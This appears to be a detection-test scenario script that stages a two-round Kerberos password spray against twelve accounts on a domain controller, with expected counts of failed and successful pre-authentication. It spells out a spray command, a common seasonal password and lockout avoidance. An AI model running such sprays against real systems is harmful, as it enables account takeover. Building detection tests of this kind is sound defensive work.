#: title: Two rounds of a password spray; the second finds a password
#: kind: attack
#: detect: brute-force-auth
#: place: bruteforceauth
#: note: george.brown has the second password; twelve accounts, so that none is locked
#: count: 23 kerberos.error_code == 24
#: count: 1 kerberos.msg_type == 11
. "$(dirname "${BASH_SOURCE[0]}")/../steps.sh"
run() {
  local secret
  for secret in 'Summer2026!' "$WEAK_PW"; do
    step attacker "12 users" "one password, AES pre-authentication" "$PY" "$STIM" krb-spray "$DC_IP" $(staff 12) --password "$secret"
    sleep 2
  done
}
cleanup() { unlock; }
